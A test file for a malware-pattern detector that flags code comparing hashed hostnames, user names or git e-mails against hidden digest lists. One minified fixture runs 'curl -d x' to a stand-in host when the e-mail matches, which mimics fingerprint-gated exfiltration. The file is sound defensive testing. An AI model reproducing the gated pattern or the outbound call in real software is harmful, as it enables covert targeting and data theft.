import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { hashedListMatch } from '../../../src/analysis/detectors/hashed-list-match.js';
import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/detector-cases.js';

const digest = (algorithm: string, text: string): string => createHash(algorithm).update(text).digest('hex');
const HOSTS = ['build-01', 'ci-acme', 'dev-box'].map((h) => `'${digest('sha256', h)}'`).join(', ');

const CASES: DetectorCase[] = [
  {
    name: 'hashed host name in a list of digests exits',
    code: `const crypto = require('crypto');\nconst os = require('os');\nconst h = crypto.createHash('sha256').update(os.hostname()).digest('hex');\nif ([${HOSTS}].includes(h)) process.exit(1);`,
    expect: [{ severity: 'high', sourceKind: 'hostname', messageIncludes: '3 literal digest(s)' }],
    twin: { code: `const crypto = require('crypto');\nconst fs = require('fs');\nconst h = crypto.createHash('sha256').update(fs.readFileSync('bundle.js')).digest('hex');\nif ([${HOSTS}].includes(h)) process.exit(1);` },
  },
  {
    name: 'md5 of the user name compared by equality',
    code: `const { createHash } = require('node:crypto');\nconst u = require('os').userInfo().username;\nmodule.exports = () => createHash('md5').update(u).digest('hex') === '${digest('md5', 'alice')}';`,
    expect: [{ severity: 'high', sourceKind: 'user', messageIncludes: 'md5' }],
    twin: { code: `const { createHash } = require('node:crypto');\nmodule.exports = (u) => createHash('md5').update(u).digest('hex') === '${digest('md5', 'alice')}';` },
  },
  {
    name: 'minified: hashed git e-mail from a one-letter helper in a Set',
    code: `var c=require("child_process"),k=require("crypto");function e(){return c.execSync("git config user.email").toString().trim()}var S=new Set(["${digest('sha1', 'a@acme.example')}","${digest('sha1', 'b@acme.example')}"]);S.has(k.createHash("sha1").update(e()).digest("hex"))&&c.execSync("curl -d x https://x.invalid");`,
    expect: [{ severity: 'high', sourceKind: 'git-identity', messageIncludes: 'sha1' }],
    twin: { code: `var c=require("child_process"),k=require("crypto");function e(){return c.execSync("git rev-parse HEAD").toString().trim()}var S=new Set(["${digest('sha1', 'a@acme.example')}","${digest('sha1', 'b@acme.example')}"]);S.has(k.createHash("sha1").update(e()).digest("hex"))&&c.execSync("curl -d x https://x.invalid");` },
  },
];

runDetectorCases(hashedListMatch, CASES);

describe('hashed-list-match evidence', () => {
  it('says the list cannot be read and how many entries it has', () => {
    const [finding] = findingsFor(hashedListMatch, CASES[0]?.code ?? '');
    expect(finding?.evidence.list?.hashed).toEqual({ algorithm: 'sha256', count: 3 });
    expect(finding?.message).toContain('cannot be read');
  });
});
